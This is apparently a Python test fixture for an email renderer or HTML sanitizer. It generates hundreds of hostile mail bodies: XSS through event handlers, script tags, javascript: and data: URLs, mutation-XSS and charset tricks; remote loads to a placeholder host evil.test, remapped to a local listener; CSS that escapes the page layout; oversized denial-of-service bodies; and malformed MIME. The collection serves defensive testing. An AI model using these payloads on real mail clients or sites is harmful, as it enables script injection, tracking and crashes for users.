# ruff: noqa: E501  # a vector stays on one line as an attacker would write it
"""Mail that wants to run, load, leave its frame or break the page: cases by name, made for one listening host.

`cases` are bodies and whole messages of a few kilobytes; `bulk` are those that try it with size. What each of
them may do is nothing, so a test needs no more than the name to tell which one did.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count
from pathlib import Path

VECTORS = Path(__file__).parent.parent / "fixtures" / "html" / "hostile.txt"
MARK = "still-readable"
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


@dataclass(frozen=True, slots=True)
class Case:
    """A hostile body: HTML, or `content` as it stands behind the fields of the message's top."""

    name: str
    html: str = ""
    content: bytes = b""

    def message(self, *, to: str, subject: str, message_id: str, thread: str) -> bytes:
        """The whole message, one of a conversation."""
        top = (
            f"From: Mallory <mallory@north.example>\r\nTo: {to}\r\nSubject: {subject}\r\n"
            f"Message-ID: <{message_id}@north.example>\r\nReferences: <{thread}@north.example>\r\n"
            "MIME-Version: 1.0\r\n"
        ).encode()
        if self.content:
            return top + self.content
        body = base64.encodebytes(f"<p>{MARK}</p>\n{self.html}".encode()).replace(b"\n", b"\r\n")
        return (
            top
            + b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + body
        )


def cases(host: str) -> list[Case]:
    """Every small case; `host` is where a request would be heard (`http://127.0.0.1:1234`)."""
    found = [
        *_numbered("vector", [line for line in VECTORS.read_text("utf-8").splitlines() if line]),
        *_handlers(),
        *_scripts(),
        *_addresses(),
        *_style_requests(),
        *_style_escapes(),
        *_foreign_content(),
        *_mutations(),
        *_broken_nesting(),
        *_reaching_out(),
    ]
    ready = [Case(one.name, one.html.replace("http://evil.test", host).replace("//evil.test", host[5:]))
             for one in found]  # fmt: skip
    return [*ready, *_charsets(host), *_parts(host)]


def bulk(host: str) -> list[Case]:
    """What tries it with size; each still has to be shown, or cut and said so."""
    rows = "".join(f"<tr><td>{n}</td><td>cell</td><td>{n * 7}</td></tr>" for n in range(2000))
    picture = f"<img src='{host}/p.png'>"
    return [
        Case("a table of 2,000 rows", f"<table>{rows}</table>"),
        Case("20,000 open elements", "<div>" * 20_000 + "deep" + "</div>" * 20_000),
        Case("20,000 tables in tables", "<table><tr><td>" * 20_000),
        Case("20,000 open quotes", "<blockquote>" * 20_000),
        Case("100,000 formatting tags never closed", "<b><i><font color=red>" * 33_000),
        Case("50,000 attributes", f"<p {' '.join(f'a{n}=b' for n in range(50_000))}>x</p>"),
        Case("20,000 rules", f"<style>{'p{color:red}' * 20_000}</style><p>x</p>"),
        Case("a selector of 5,000 steps", f"<style>{'div ' * 5000}p{{color:red}}</style><p>x</p>"),
        Case("a word of a million letters", f"<p>{'a' * 1_000_000}</p>"),
        Case("a line of 100,000 combining marks", "<p>x" + "\u0335\u0489" * 50_000 + "</p>"),
        Case("5,000 remote pictures", picture * 5000),
        Case("10 MB of paragraphs", f"<p>{'plain words ' * 8}</p>" * 100_000),
        Case("10 MB of unclosed comment", "<!--" + "x" * 10_000_000),
        Case("nested calc", f"<p style='width:{'calc(' * 5000}1px{')' * 5000}'>x</p>"),
        Case("a million entities", "<p>" + "&amp;&lt;&#x41;" * 300_000),
        Case("5,000 attachments", content=_attachments(5000)),
        Case("messages in messages", content=_matryoshka(200)),
    ]


def _numbered(kind: str, bodies: list[str]) -> Iterator[Case]:
    for number, html in zip(count(1), bodies, strict=False):
        yield Case(f"{kind} {number}", html)


_RUN = "window.top.pwned=1;alert(1)"


def _handlers() -> Iterator[Case]:
    elements = (
        "p",
        "img src=x",
        "svg",
        "body",
        "video",
        "details open",
        "marquee",
        "input autofocus",
        "math",
    )
    events = (
        *(
            "onload",
            "onerror",
            "onfocus",
            "ontoggle",
            "onanimationstart",
            "ontransitionend",
            "onpointerenter",
        ),
        *("onbeforeprint", "onscroll", "onwheel", "oncopy", "onmessage", "onpageshow", "onhashchange"),
        *("onbegin", "onbounce", "oncanplay", "onslotchange", "oncontentvisibilityautostatechange"),
    )
    shapes = (
        '<{el} {ev}="{run}">x',
        "<{el} {ev}='{run}'>x",
        "<{el} {ev}={run}>x",
        "<{el}/{ev}={run}>x",
        "<{el} \x0c{ev}\x0c=\x0c{run}>x",
        '<{el} x="\'"{ev}="{run}">x',
        "<{el} =x {ev}={run}>x",
        '<{el} "{ev}={run}>x',
        "<{el}\x00 {ev}={run}>x",
    )
    for number, event in enumerate(events):
        shape, element = shapes[number % len(shapes)], elements[number % len(elements)]
        run = _RUN if number % 3 else "".join(f"&#x{ord(c):x};" for c in _RUN)
        yield Case(f"handler {event}", shape.format(el=element, ev=event, run=run))
        yield Case(
            f"handler {event} in capitals", shape.format(el=element.upper(), ev=event.upper(), run=run)
        )


def _scripts() -> Iterator[Case]:
    yield from _numbered(
        "script",
        [
            f"<script>{_RUN}</script>",
            f"<ScRiPt type=module>{_RUN}</sCrIpT >",
            "<script async src='http://evil.test/a.js' integrity=x></script>",
            f"<script\n>{_RUN}</script\n>",
            f"<script>/*<!--<script>*/{_RUN}</script>",
            f"<scri\x00pt>{_RUN}</scri\x00pt>",
            f"<svg><script xlink:href='data:,{_RUN}'/></svg>",
            "<svg><script>&#97;lert(1)</script></svg>",
            f"<noscript><script>{_RUN}</script></noscript>",
            f"<template><script>{_RUN}</script></template>",
            f"<template shadowrootmode=open><script>{_RUN}</script><slot></slot></template>",
            f"<div><template shadowrootmode=closed><style>*{{color:red}}</style><img src=x onerror={_RUN}></template></div>",
            f"<xml><script for=window event=onload>{_RUN}</script></xml>",
            "<script language=vbscript>msgbox 1</script>",
            f"<![CDATA[<script>{_RUN}</script>]]>",
            f"&lt;script&gt;{_RUN}&lt;/script&gt;",
            f"<textarea></textarea/><script>{_RUN}</script>",
            f"<title></title ><script>{_RUN}</script>",
            "<a id=x name=attributes></a><form id=f><input name=attributes><input name=parentNode></form>",
            f"<a id=top></a><a id=top name=postMessage href='javascript:{_RUN}'></a><img name=cookie><img name=body>",
        ],
    )


def _addresses() -> Iterator[Case]:
    targets = (
        "http://evil.test/{n}",
        "//evil.test/{n}",
        "\\\\evil.test\\{n}",
        "http:evil.test/{n}",
        "ht\ttp://evil.test/{n}",
        "&#104;ttp://evil.test/{n}",
        "javascript:window.top.pwned=1",
        "java\nscript:window.top.pwned=1",
        "\x01javascript:window.top.pwned=1",
        "data:text/html,<script>window.top.pwned=1</script>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.top.pwned=1'/>",
        "view-source:http://evil.test/{n}",
        "blob:http://evil.test/{n}",
        "filesystem:http://evil.test/{n}",
        "feed:http://evil.test/{n}",
        "jar:http://evil.test/{n}!/",
        "ws://evil.test/{n}",
    )
    places = (
        '<img src="{u}">',
        '<img srcset="{u} 1x, {u} 2x">',
        '<picture><source srcset="{u}"><img></picture>',
        '<img longdesc="{u}" lowsrc="{u}" dynsrc="{u}">',
        '<body background="{u}">',
        '<table background="{u}"><tr background="{u}"><td background="{u}">x</table>',
        '<video src="{u}" poster="{u}" autoplay><track default src="{u}"><source src="{u}"></video>',
        '<audio src="{u}" autoplay></audio>',
        '<iframe src="{u}"></iframe>',
        "<iframe srcdoc=\"<img src='{u}'>\"></iframe>",
        '<frameset><frame src="{u}"></frameset>',
        '<object data="{u}"></object>',
        '<embed src="{u}">',
        '<applet archive="{u}" code=x></applet>',
        '<link rel=stylesheet href="{u}">',
        '<link rel=preload as=image href="{u}"><link rel=prefetch href="{u}">',
        '<link rel=dns-prefetch href="{u}"><link rel=preconnect href="{u}">',
        '<link rel=prerender href="{u}"><link rel=modulepreload href="{u}"><link rel=icon href="{u}">',
        '<link rel=manifest href="{u}">',
        '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{u}"]}}]}}</script>',
        '<base href="{u}"><img src=p.png>',
        '<meta http-equiv=refresh content="0;url={u}">',
        "<meta http-equiv=refresh content=\"0; URL='{u}'\">",
        '<meta http-equiv=Content-Security-Policy content="report-uri {u}">',
        '<meta http-equiv=Link content="<{u}>; rel=preload; as=image">',
        '<html manifest="{u}">',
        '<input type=image src="{u}">',
        '<form action="{u}"><input autofocus><input type=submit formaction="{u}"></form>',
        '<svg><image href="{u}"/><use href="{u}#a"/><feImage href="{u}"/></svg>',
        '<svg><a href="{u}"><text y=20>x</text></a><animate attributeName=href to="{u}"/></svg>',
        '<math><maction actiontype=statusline xlink:href="{u}">x</maction></math>',
        '<bgsound src="{u}"><layer src="{u}"><ilayer src="{u}">',
        '<blockquote cite="{u}"><q cite="{u}">x</q><del cite="{u}">x</del></blockquote>',
        '<a href="{u}" ping="{u}" attributionsrc="{u}">x</a><img attributionsrc="{u}" src=x>',
        '<v:image src="{u}"/><v:fill src="{u}"/>',
        '<?xml-stylesheet href="{u}"?><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{u}"/></x>',
        '<portal src="{u}"></portal><fencedframe src="{u}"></fencedframe>',
        '<model src="{u}"></model><amp-img src="{u}"></amp-img>',
    )
    for number, place in enumerate(places):
        html = "".join(place.replace("{{", "{").replace("}}", "}").replace("{u}", target.format(n=number))
                       for target in targets)  # fmt: skip
        yield Case(f"address {number + 1} {place.split()[0].lstrip('<')}", html)


def _style_requests() -> Iterator[Case]:
    values = (
        "background:url(http://evil.test/{n})",
        "background:URL( 'http://evil.test/{n}' )",
        "background:u\\72 l(http://evil.test/{n})",
        "background:\\000075rl(http://evil.test/{n})",
        "background:url(\\68ttp://evil.test/{n})",
        "background:url(//evil.test/{n})",
        "background-image:image-set('http://evil.test/{n}' 1x)",
        "background-image:-webkit-image-set(url(http://evil.test/{n}) 1x)",
        "background-image:cross-fade(url(http://evil.test/{n}),red)",
        "background-image:image('http://evil.test/{n}')",
        "background-image:element(#x)",
        "background-image:src('http://evil.test/{n}')",
        "background:paint(x);--a:url(http://evil.test/{n});background:var(--a)",
        "background:var(--none,url(http://evil.test/{n}))",
        "background:attr(title type(<url>))",
        "background:if(style(--x): url(http://evil.test/{n}); else: red)",
        "border-image-source:url(http://evil.test/{n})",
        "list-style-image:url(http://evil.test/{n});display:list-item",
        "cursor:url(http://evil.test/{n}),pointer",
        "content:url(http://evil.test/{n})",
        "mask:url(http://evil.test/{n}#m);mask-image:url(http://evil.test/{n})",
        "-webkit-mask-box-image:url(http://evil.test/{n})",
        "clip-path:url(http://evil.test/{n}#c)",
        "filter:url(http://evil.test/{n}#f)",
        "backdrop-filter:url(http://evil.test/{n}#f)",
        "shape-outside:url(http://evil.test/{n});float:left",
        "offset-path:url(http://evil.test/{n}#p)",
        "fill:url(http://evil.test/{n}#p);marker:url(http://evil.test/{n}#m)",
        "behavior:url(http://evil.test/{n}.htc)",
        "-moz-binding:url(http://evil.test/{n}.xml#a)",
        "width:expression(window.top.pwned=1)",
        "background:url(javascript:window.top.pwned=1)",
        "src:url(http://evil.test/{n});font-family:x",
        "-o-link:'http://evil.test/{n}';-o-link-source:current",
        "animation-timeline:url(http://evil.test/{n})",
    )
    for number, value in enumerate(values):
        declaration = value.format(n=f"s{number}")
        html = (
            f'<p style="{declaration}">x</p><style>p, .m-body, body {{ {declaration} }}</style>'
            f"<style>p::before {{ content: 'x'; {declaration} }} @media all {{ p {{ {declaration} }} }}</style>"
        )
        yield Case(f"style {value.partition('(')[0]} {number + 1}", html)
    yield from _numbered(
        "rule",
        [
            "<style>@import 'http://evil.test/1';</style>",
            "<style>@\\69mport url(http://evil.test/2);</style>",
            "<style>@import/**/url(//evil.test/3) layer(x) supports(display:grid);</style>",
            "<style>@charset 'utf-7'; @import 'http://evil.test/4';</style>",
            "<style>@font-face{font-family:a;src:url(http://evil.test/5)}p{font-family:a}</style><p>x</p>",
            "<style>@font-face{font-family:b;src:local(x),url(//evil.test/6) format('woff2');unicode-range:U+61}</style>",
            "<style>@namespace svg url(http://evil.test/7);</style>",
            "<style>@document url(http://evil.test/8){p{color:red}}</style>",
            "<style>@counter-style x{system:cyclic;symbols:url(http://evil.test/9)}</style>",
            "<style>@property --p{syntax:'<url>';inherits:false;initial-value:url(http://evil.test/10)}</style>",
            "<style>@layer a{p{background:url(http://evil.test/11)}}</style><p>x</p>",
            "<style>@container (width>1px){p{background:url(http://evil.test/12)}}</style><p>x</p>",
            "<style>@scope (.m-body){p{background:url(http://evil.test/13)}}</style><p>x</p>",
            "<style>@starting-style{p{background:url(http://evil.test/14)}}</style><p>x</p>",
            "<style>p{&:hover,&{background:url(http://evil.test/15)}}</style><p>x</p>",
            "<style>a[href^='h']{background:url(http://evil.test/16)}</style><a href='https://x.example'>x</a>",
            "<style>@page{background:url(http://evil.test/17)}</style>",
            "<style>@view-transition{navigation:auto}</style>",
            "<style></style/><img src=http://evil.test/18>",
            "<style>/*</style><img src=http://evil.test/19>*/</style>",
            "<svg><style>@import 'http://evil.test/20';</style></svg>",
            "<style media='x'>p{color:red}</style><style type=text/x>@import 'http://evil.test/21'</style>",
        ],
    )


def _style_escapes() -> Iterator[Case]:
    values = (
        "position:fixed;inset:0;background:red;z-index:2147483647",
        "position:fixed!important;top:0;left:0;width:9999px;height:9999px",
        "position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px",
        "position:sticky;top:0",
        "posi\\74ion:fixed;top:0",
        "position:var(--x,fixed)",
        "height:100vh",
        "height:200vh",
        "min-height:100dvh;height:100svh",
        "height:calc(100vh + 1px)",
        "height:max(100vb, 1px);width:100vw",
        "height:100%;min-height:100%",
        "height:110%",
        "height:100000000px",
        "width:100000000px",
        "font-size:1000000px",
        "font-size:200vmax",
        "line-height:100000",
        "margin-top:-100000px;margin-left:-100000px",
        "transform:scale(1000);transform-origin:0 0",
        "zoom:1000",
        "box-shadow:0 0 0 99999px red",
        "outline:99999px solid red;outline-offset:99999px",
        "filter:invert(1);mix-blend-mode:difference",
        "animation:grow 10ms infinite alternate",
        "transition:height 10ms infinite",
        "resize:both;overflow:scroll",
        "contain:none;content-visibility:auto;contain-intrinsic-size:1e9px",
        "columns:100000",
        "display:grid;grid-template-columns:repeat(100000,1px)",
        "counter-reset:a 999999999;column-count:99999",
        "text-indent:-99999px;letter-spacing:99999px",
        "writing-mode:vertical-rl;height:100%",
        "aspect-ratio:0.00001",
        "padding-top:100000%",
        "cursor:none;pointer-events:all;user-select:none",
        "container-type:size;height:100cqh",
        "anchor-name:--a;position-anchor:--a;position:fixed",
        "overscroll-behavior:auto;scroll-snap-type:y mandatory",
        "appearance:button;-webkit-app-region:drag",
    )
    grow = "@keyframes grow{from{height:1px}to{height:5000px}}"
    for number, value in enumerate(values):
        html = (
            f"<style>{grow} html,body,.m-body,:root,:host,* {{ {value} }}</style>"
            f'<div style="{value}"><p style="{value}">x</p></div>'
        )
        yield Case(f"layout {number + 1} {value.partition(';')[0]}", html)


def _foreign_content() -> Iterator[Case]:
    run = _RUN
    yield from _numbered(
        "foreign",
        [
            f"<svg><foreignObject><body onload={run}></foreignObject></svg>",
            f"<svg><desc><img src=x onerror={run}></desc></svg>",
            f"<svg><set attributeName=onmouseover to={run}></svg>",
            f"<svg><animate onbegin={run} attributeName=x dur=1s>",
            f"<svg><animateTransform onbegin={run}><animateMotion onrepeat={run}>",
            "<svg><a><animate attributeName=href values=javascript:window.top.pwned=1 /><text x=20 y=20>x</text></a>",
            "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/>",
            "<svg><filter id=f><feImage href='http://evil.test/f1'/></filter></svg><p style='filter:url(#f)'>x</p>",
            "<svg><pattern id=p><image href='http://evil.test/f2'/></pattern><rect fill=url(#p) width=9 height=9 /></svg>",
            "<svg><style>*{background:url(http://evil.test/f3)}</style></svg>",
            "<svg><metadata><iframe src=http://evil.test/f4></iframe></metadata></svg>",
            f"<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
            f"<math><mi><table><mglyph><svg><mtext><style><img src=x onerror={run}></style></mtext></svg>",
            "<math href=javascript:window.top.pwned=1><mtext>x</mtext></math>",
            "<math><semantics><annotation-xml><script>1</script></annotation-xml></semantics></math>",
            f"<xml id=x><root><a>&lt;img src=x onerror={run}&gt;</a></root></xml><span datasrc=#x datafld=a></span>",
            f"<html xmlns:x=http://www.w3.org/1999/xhtml><x:script>{run}</x:script></html>",
            f"<o:p onclick={run}>x</o:p><w:sdt><v:shape onload={run}></w:sdt>",
        ],
    )


def _mutations() -> Iterator[Case]:
    run = _RUN
    yield from _numbered(
        "mutation",
        [
            f'<svg></p><style><a id="</style><img src=1 onerror={run}>">',
            f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">',
            f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
            f'<noscript><p title="</noscript><img src=x onerror={run}>">',
            f'<p title="</p><img src=x onerror={run}>">',
            f"<listing>&lt;img src=x onerror={run}&gt;</listing><pre>\n\n&lt;img src=x onerror={run}&gt;</pre>",
            f"<a title='`><img src=x onerror={run}>`'>x</a>",
            f"<select><style></select><img src=x onerror={run}></style>",
            f'<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror={run}>">',
            f"<table><td><style></table><img src=x onerror={run}></style>",
            f"<iframe><textarea></iframe><img src=x onerror={run}></textarea>",
            f"<!--><img src=x onerror={run}>-->",
            f"<!---!><img src=x onerror={run}>-->",
            f"<!-- --!><img src=x onerror={run}>-->",
            f"<![if x]><img src=x onerror={run}><![endif]>",
            f"<?x ><img src=x onerror={run}>?>",
            f"</ ><img src=x onerror={run}>",
            f"<%><img src=x onerror={run}>%>",
            f"<b><p><a></b><svg><b><p><style></b></p><img src=x onerror={run}></style>",
            f"<table><table><a><a><img src=x onerror={run}></table></table>",
            f"<option><style></option></select><img src=x onerror={run}></style></option>",
            f"<p data-x='&quot;&gt;&lt;img src=x onerror={run}&gt;'>x</p>",
            f"<p style='font-family:\"&lt;/style&gt;&lt;img src=x onerror={run}&gt;\"'>x</p>",
            f"<p style='font-family:\\3c\\2f style\\3e\\3cimg src=x onerror={run}\\3e'>x</p>",
            f"<style>p{{font-family:'</sty' 'le><img src=x onerror={run}>'}}</style>",
            f"<style>p{{}}\\3c/style><img src=x onerror={run}></style>",
            "<a href='https://x.example/\"><img src=x onerror=window.top.pwned=1>'>x</a>",
            '<img alt=\'"><script>window.top.pwned=1</script>\' src="x"onerror=1//>',
            "<img src='data:image/png;base64,x\" onerror=\"window.top.pwned=1'>",
            "<font color='\"onload=window.top.pwned=1 x=\"' face=`onload=1`>x</font>",
            "<plaintext><img src=x onerror=window.top.pwned=1></plaintext>",
            "<xmp></xmp ><img src=x onerror=window.top.pwned=1>",
        ],
    )


def _broken_nesting() -> Iterator[Case]:
    yield from _numbered(
        "nesting",
        [
            "</div></div></body></html><p>behind the end</p><script>window.top.pwned=1</script>",
            "</body></html></iframe></section></article><h1>not ours</h1>",
            "</style></script></textarea></title></template></noscript></select></table><p>x</p>",
            "<table><tr><div><td></div></tr></td><td><table></td></tr></table><p>x</p>",
            "<a><a><a><a><div></a></div></a></a></a>x",
            "<b><table><i></b><tr></i><td>x",
            "<ul><li><ol><li></ul></li></ol><li>x",
            "<html><head><body><html><body><head><frameset><frame></frameset>x",
            "<p><p><p><div></p></div><p>x</p></p></p>",
            "<li></li></ul></ol></dl><dd>x<dt>y",
            "<form><form><div></form><input></div></form>x",
            "<caption>x<col><colgroup><tbody><tr><td>y",
            "<![endif]--><!--[if !mso]><!-->x<!--<![endif]-->",
            '<img src=x alt="never closed',
            "<p style=\"color:red;background:url('never closed",
            "<a href='https://x.example/",
            "<",
            "</",
            "<!--",
            "&#x110000; &#0; &#xD800; &#x80; &bogus; &amp &lt",
        ],
    )


def _reaching_out() -> Iterator[Case]:
    yield from _numbered(
        "frame",
        [
            "<a href='https://x.example/' target=_top>x</a><a href='https://x.example/' target=_parent>x</a>",
            "<a href='https://x.example/' rel='opener' download=x>x</a>",
            "<base target=_top><a href='https://x.example/'>x</a>",
            "<base href='/graphql'><a href='?query=x'>x</a>",
            "<form method=post action='/graphql' target=_top><button autofocus>x</button></form>",
            "<a href='/settings'>x</a><a href='?x'>x</a><a href=''>x</a><img src='/files/uploads'>",
            "<link rel=stylesheet href='/assets/main.css'><img src='/img/1/0'><iframe src='/'></iframe>",
            "<p id=root class='toolbar pane list'>x</p><style>#root,.pane,.toolbar{display:none}</style>",
            "<style>.m-body ~ *, .m-body, html:has(body) { display: none } </style><p>x</p>",
            "<dialog open style='inset:0'>x</dialog><div popover=manual id=p>x</div><button popovertarget=p>y</button>",
            "<input type=file webkitdirectory><input type=password autocomplete=current-password name=password>",
            "<div contenteditable autofocus tabindex=1 accesskey=c inert>x</div>",
            "<meta http-equiv=X-Frame-Options content=deny><meta name=referrer content=unsafe-url>",
            "<meta name=viewport content='width=9999'><meta name=theme-color content=red>",
            "<meta http-equiv=Set-Cookie content='postroom=1'><meta http-equiv=Clear-Site-Data content='*'>",
            "<meta http-equiv=origin-trial content=x><meta charset=utf-7>",
            "<object type=text/html data='/'></object><embed type=application/pdf src='/'>",
            "<video controls autoplay loop></video><canvas id=c></canvas><progress></progress><meter></meter>",
            "<keygen name=x><isindex prompt=x><noembed><p>x</noembed><noframes><p>x</noframes>",
            "<span is=x-element slot=y part=z exportparts=a nonce=n itemprop=b>x</span>",
        ],
    )


def _charsets(host: str) -> Iterator[Case]:
    attack = f"<script>window.top.pwned=1</script><img src='{host}/charset.png' onerror='window.top.pwned=1'>"
    plain = f"<p>{MARK}</p>{attack}"
    utf7 = plain.replace("<", "+ADw-").replace(">", "+AD4-").encode()
    tricks: list[tuple[str, str, bytes]] = [
        ("utf-7 declared", "utf-7", utf7),
        ("utf-7 in a meta", "", b"<meta charset=utf-7>" + f"<p>{MARK}</p>".encode() + utf7),
        ("utf-16 without a mark", "utf-16", plain.encode("utf-16-le")),
        ("utf-16 declared over ascii", "utf-16le", plain.encode()),
        ("utf-32", "utf-32", plain.encode("utf-32")),
        ("overlong", "utf-8", f"<p>{MARK}</p>".encode() + b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"),
        ("surrogates", "utf-8", f"<p>{MARK}</p>".encode() + b"\xed\xa0\xbcscript\xed\xb0\x80" + attack.encode()),
        ("iso-2022-jp escapes", "iso-2022-jp", f"<p>{MARK}</p>".encode() + b"<p title='\x1b$B'\x1b(B onx='>\x1b$@</p>" + attack.encode()),
        ("iso-2022-kr shifts", "iso-2022-kr", b"\x1b$)C" + f"<p>{MARK}</p>".encode() + b"\x0e<script>\x0f" + attack.encode()),
        ("hz", "hz-gb-2312", f"<p>{MARK}</p>".encode() + b"<p title='~{'>~}" + attack.encode()),
        ("shift-jis eats a quote", "shift_jis", f"<p>{MARK}</p>".encode() + b'<p title="\x81">' + attack.encode()),
        ("gbk eats a quote", "gbk", f"<p>{MARK}</p>".encode() + b'<p title="\xbf">' + attack.encode()),
        ("ebcdic", "cp037", plain.encode("cp037")),
        ("x-user-defined", "x-user-defined", plain.encode()),
        ("a name that imports", "../../os", plain.encode()),
        ("rot13", "rot13", plain.encode()),
        ("null bytes", "utf-8", plain.replace("<", "<\0").encode() + plain.encode()),
        ("byte order marks", "utf-8", b"\xef\xbb\xbf\xff\xfe" + plain.encode()),
        ("right-to-left overrides", "utf-8", f"<p>\u202e{MARK}\u2066</p><p>{MARK}</p>{attack}".encode()),
    ]  # fmt: skip
    for name, charset, body in tricks:
        head = "Content-Type: text/html" + (f'; charset="{charset}"' if charset else "") + "\r\n"
        encoded = base64.encodebytes(body).replace(b"\n", b"\r\n")
        yield Case(name, content=head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded)


def _parts(host: str) -> Iterator[Case]:
    attack = f"<script>window.top.pwned=1</script><img src='{host}/part.png'>"
    html = f"<p>{MARK}</p><img src=cid:self><img src=cid:svg><img src=cid:html><img src=cid:none>{attack}"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.top.pwned=1'><image href='{host}/svg'/></svg>"
    yield Case("pictures that are pages", content=(
        "Content-Type: multipart/related; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\nContent-ID: <self>\r\n\r\n{html}\r\n"
        f"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg>\r\n\r\n{svg}\r\n"
        f"--b\r\nContent-Type: image/png\r\nContent-ID: <html>\r\n\r\n<html>{attack}</html>\r\n--b--\r\n"
    ).encode())  # fmt: skip
    yield Case("an empty related", content=(
        b"Content-Type: multipart/related; boundary=b\r\n\r\n--b--\r\n"
    ))  # fmt: skip
    yield Case("a boundary that never comes", content=(
        f"Content-Type: multipart/mixed; boundary=nowhere\r\n\r\n<p>{MARK}</p>{attack}\r\n"
    ).encode())  # fmt: skip
    yield Case("html called text", content=(
        f"Content-Type: text/plain; charset=utf-8\r\n\r\n<p>{MARK}</p>{attack}\r\n"
    ).encode())  # fmt: skip
    yield Case("two html parts", content=(
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<p>{MARK}</p><textarea><style>\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n</style></textarea>{attack}\r\n--b--\r\n"
    ).encode())  # fmt: skip
    yield Case("base64 that is none", content=(
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + f"<p>{MARK}</p>{attack}".encode()
    ))  # fmt: skip
    yield Case("a picture that is fine", content=(
        "Content-Type: multipart/related; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<p>{MARK}</p><img src=cid:x alt=dot>\r\n"
        "--b\r\nContent-Type: image/png\r\nContent-ID: <x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{_PNG}\r\n--b--\r\n"
    ).encode())  # fmt: skip


def _attachments(number: int) -> bytes:
    parts = "".join(
        f'--b\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename="{n}.txt"\r\n\r\n{n}\r\n'
        for n in range(number)
    )
    return (
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        f"--b\r\nContent-Type: text/html\r\n\r\n<p>{MARK}</p>\r\n{parts}--b--\r\n"
    ).encode()


def _matryoshka(depth: int) -> bytes:
    inner = f"Content-Type: text/html\r\n\r\n<p>{MARK}</p>"
    for level in range(depth):
        inner = (
            f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n"
            f"Content-Type: text/html\r\n\r\n<p>{MARK}</p>\r\n--b{level}\r\nContent-Type: message/rfc822\r\n\r\n"
            f"Subject: level {level}\r\n{inner}\r\n--b{level}--"
        )
    return inner.encode()
